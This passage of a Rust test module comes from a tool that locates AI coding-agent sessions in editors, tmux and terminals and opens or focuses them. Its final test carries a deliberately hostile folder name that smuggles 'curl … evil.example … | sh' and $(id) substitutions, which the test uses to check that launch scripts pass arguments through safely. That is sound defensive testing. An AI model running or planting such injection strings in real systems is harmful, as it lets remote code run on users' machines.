                dir: PathBuf::from("/home/dev/api")
            })
        );
    }

    #[test]
    fn vs_code_and_cursor_are_told_apart_by_environment_and_ancestry() {
        // Claude started in VS Code's integrated terminal.
        let vscode = env(&[
            ("TERM_PROGRAM", "vscode"),
            ("VSCODE_GIT_ASKPASS_NODE", "/usr/share/code/code"),
        ]);
        assert_eq!(
            editor_of(&vscode, &names(&["claude", "bash", "code"])),
            Some(Editor::VsCode)
        );
        // Cursor sets TERM_PROGRAM=vscode too; its helper paths and names give it away.
        let cursor = env(&[
            ("TERM_PROGRAM", "vscode"),
            (
                "VSCODE_GIT_ASKPASS_NODE",
                "/opt/Cursor/resources/app/cursor",
            ),
        ]);
        assert_eq!(editor_of(&cursor, &[]), Some(Editor::Cursor));
        assert_eq!(
            editor_of(
                &env(&[("TERM_PROGRAM", "vscode")]),
                &names(&["zsh", "cursor"])
            ),
            Some(Editor::Cursor)
        );
        // Environment unreadable (another user's process): ancestry alone still tells.
        assert_eq!(
            editor_of(&[], &names(&["claude", "bash", "code"])),
            Some(Editor::VsCode)
        );
        // A plain terminal, or a terminal that merely runs something called "codex".
        assert_eq!(
            editor_of(
                &env(&[("TERM_PROGRAM", "tmux")]),
                &names(&["codex", "bash", "gnome-terminal-"])
            ),
            None
        );
    }

    #[cfg(target_os = "linux")]
    #[test]
    fn the_editor_is_read_from_a_real_processs_environment() {
        // An agent started from Cursor's terminal: its environment says so in /proc.
        let mut child = std::process::Command::new("sleep")
            .arg("30")
            .env("TERM_PROGRAM", "vscode")
            .env("CURSOR_TRACE_ID", "abc")
            .env("TMUX", "/tmp/agent-tray-test/sock,4242,0")
            .spawn()
            .unwrap_or_else(|e| panic!("{e}"));
        // Until it has exec'd, the child shows the test's own environment in /proc, and for a
        // moment during exec (its new name set, its stack not yet) an empty one.
        let execd = |pid: u32| {
            let deadline = std::time::Instant::now() + std::time::Duration::from_secs(5);
            let environ = || std::fs::read(format!("/proc/{pid}/environ")).unwrap_or_default();
            while crate::process::read_stat(pid).map(|s| s.comm) != Some("sleep".into())
                || environ().is_empty()
            {
                assert!(std::time::Instant::now() < deadline, "sleep never started");
                std::thread::sleep(std::time::Duration::from_millis(5));
            }
        };
        execd(child.id());
        let seen = process_editor(child.id());
        let socket = process_facts(child.id()).tmux_socket;
        let mut plain = std::process::Command::new("sleep")
            .arg("30")
            .env_remove("TERM_PROGRAM")
            .spawn()
            .unwrap_or_else(|e| panic!("{e}"));
        execd(plain.id());
        let plain_seen = process_editor(plain.id());
        for c in [&mut child, &mut plain] {
            let _ = c.kill();
            let _ = c.wait();
        }
        assert_eq!(seen, Some(Editor::Cursor));
        assert_eq!(socket, Some(PathBuf::from("/tmp/agent-tray-test/sock")));
        if std::env::var("TERM_PROGRAM").is_err() {
            assert_eq!(plain_seen, None, "a plain terminal's process");
        }
    }

    #[test]
    fn a_pane_is_selected_even_when_bringing_its_terminal_forward_fails() {
        // tmux inside kitty: kitty's focus is best effort, the panes are what the jump is.
        let plan = JumpPlan::Tmux {
            server: TmuxServer::Default,
            location: TmuxLocation::parse("work:@3.%7").unwrap_or_else(|| panic!("parses")),
            front: Some(FrontTerminal {
                terminal: kitty("2"),
                tty: None,
            }),
        };
        let steps = jump_steps(&plan);
        let programs = |l: &[Launch]| l.iter().map(|l| l.program.clone()).collect::<Vec<_>>();
        #[cfg(not(target_os = "macos"))]
        assert_eq!(programs(&steps.best_effort), ["kitty"]);
        #[cfg(target_os = "macos")]
        assert_eq!(programs(&steps.best_effort), ["open", "kitty"]);
        assert_eq!(programs(&steps.required), ["tmux", "tmux"]);
        assert_eq!(steps.what, "select the pane");
        assert_eq!((steps.folder, steps.fallback), (None, None));
        // No terminal known: everything is required.
        let bare = JumpPlan::Tmux {
            server: TmuxServer::Default,
            location: TmuxLocation::parse("work:@3").unwrap_or_else(|| panic!("parses")),
            front: None,
        };
        let steps = jump_steps(&bare);
        assert!(steps.best_effort.is_empty());
        assert_eq!(programs(&steps.required), ["tmux"]);
    }

    #[test]
    fn a_tab_that_cannot_be_reached_falls_back_to_a_terminal_in_the_folder_and_a_folder_must_exist()
    {
        let tab = JumpPlan::Tab {
            front: FrontTerminal {
                terminal: kitty("4"),
                tty: None,
            },
            dir: Some(PathBuf::from("/home/dev/api")),
        };
        let steps = jump_steps(&tab);
        assert_eq!(
            steps.fallback,
            Some(JumpPlan::Terminal {
                dir: PathBuf::from("/home/dev/api")
            })
        );
        assert_eq!(steps.folder, None, "the tab itself needs no folder");
        // A tab with no folder known has nowhere to fall back to.
        let nowhere = JumpPlan::Tab {
            front: FrontTerminal {
                terminal: kitty("4"),
                tty: None,
            },
            dir: None,
        };
        assert_eq!(jump_steps(&nowhere).fallback, None);
        let editor = jump_steps(&JumpPlan::Editor {
            editor: Editor::VsCode,
            dir: PathBuf::from("/home/dev/api"),
        });
        assert_eq!(
            (editor.folder.as_deref(), editor.what, editor.program),
            (Some(Path::new("/home/dev/api")), "code", None)
        );
        let terminal = jump_steps(&JumpPlan::Terminal {
            dir: PathBuf::from("/home/dev/api"),
        });
        assert_eq!(terminal.folder.as_deref(), Some(Path::new("/home/dev/api")));
        #[cfg(not(target_os = "macos"))]
        assert_eq!(terminal.program, Some("x-terminal-emulator"));
        #[cfg(target_os = "macos")]
        assert_eq!(terminal.program, None);
    }

    #[test]
    fn a_remote_jump_runs_ssh_in_a_new_terminal_and_says_the_quoted_line_where_none_opens() {
        // A session on a remote host: `ssh -t -- dev@box tmux …` as the core's remote module
        // builds it, with a folder holding a space and a quote.
        let argv: Vec<String> = ["ssh", "-t", "--", "dev@box", "cd", "/srv/it's here"]
            .iter()
            .map(|s| s.to_string())
            .collect();
        let script = Path::new("/run/user/1000/agent-tray/jump-1.sh");
        let jump = remote_jump(&argv, script);
        assert!(
            jump.command_line.starts_with("ssh -t -- dev@box cd "),
            "{}",
            jump.command_line
        );
        assert_eq!(
            crate::install::shell_words(&jump.command_line),
            Some(argv.clone()),
            "the line the user is told to run reads back as the same words"
        );
        #[cfg(not(target_os = "macos"))]
        {
            let launch = jump.launch.unwrap_or_else(|| panic!("a terminal"));
            assert_eq!(launch.program, "setsid");
            assert_eq!(
                launch.args,
                ["-f", "x-terminal-emulator", "-e", script.to_str().unwrap()],
                "the terminal's command line holds our script's path and nothing of the session"
            );
            assert_eq!(jump.program, Some("x-terminal-emulator"));
            let text = jump.script.unwrap_or_else(|| panic!("a script"));
            assert!(
                text.ends_with(&format!("exec {}\n", jump.command_line)),
                "{text}"
            );
        }
        #[cfg(target_os = "macos")]
        assert_eq!((jump.launch, jump.script), (None, None));
    }

    #[cfg(unix)]
    #[test]
    fn a_remote_jumps_terminal_runs_no_session_text_and_its_script_hands_each_word_over_unchanged()
    {
        // A hostile remote names its tmux session and folder so that a terminal which re-splits
        // its `-e` text (or hands it to a shell) would run a command here. The terminal gets only
        // the script's path; the script, run by a real `sh`, hands every word over as it was
        // (here to `printf`, standing for `ssh`) and removes itself.
        let hostile = [
            "/srv/x'; curl -s https://evil.example/x | sh; echo '",
            "a\nb\tc $(id) `id` \"q\" \\ ;&|<>*?",
            "-e",
            "",
        ];
        let dir = tempfile::tempdir().unwrap();
        let script = dir.path().join("jump-1.sh");
        let mut argv: Vec<String> = vec!["printf".into(), "[%s]\\n".into()];
        argv.extend(hostile.iter().map(|s| s.to_string()));
        let jump = remote_jump_on(Desktop::Linux, &argv, &script);
        let launch = jump.launch.unwrap();
        for word in &hostile[..2] {
            assert!(
                !launch.args.iter().any(|a| a.contains(word)),
                "no session text on the terminal's command line: {:?}",
                launch.args
            );
        }
        assert_eq!(launch.args.last().map(String::as_str), script.to_str());
        std::fs::write(&script, jump.script.unwrap()).unwrap();
        let out = std::process::Command::new("sh")
            .arg(&script)
            .stdin(std::process::Stdio::null())
            .output()
            .unwrap();
        assert!(out.status.success(), "{out:?}");
        let expected: String = hostile.iter().map(|w| format!("[{w}]\n")).collect();
        assert_eq!(String::from_utf8_lossy(&out.stdout), expected);
        assert!(!script.exists(), "the script removes itself when it starts");
    }
}
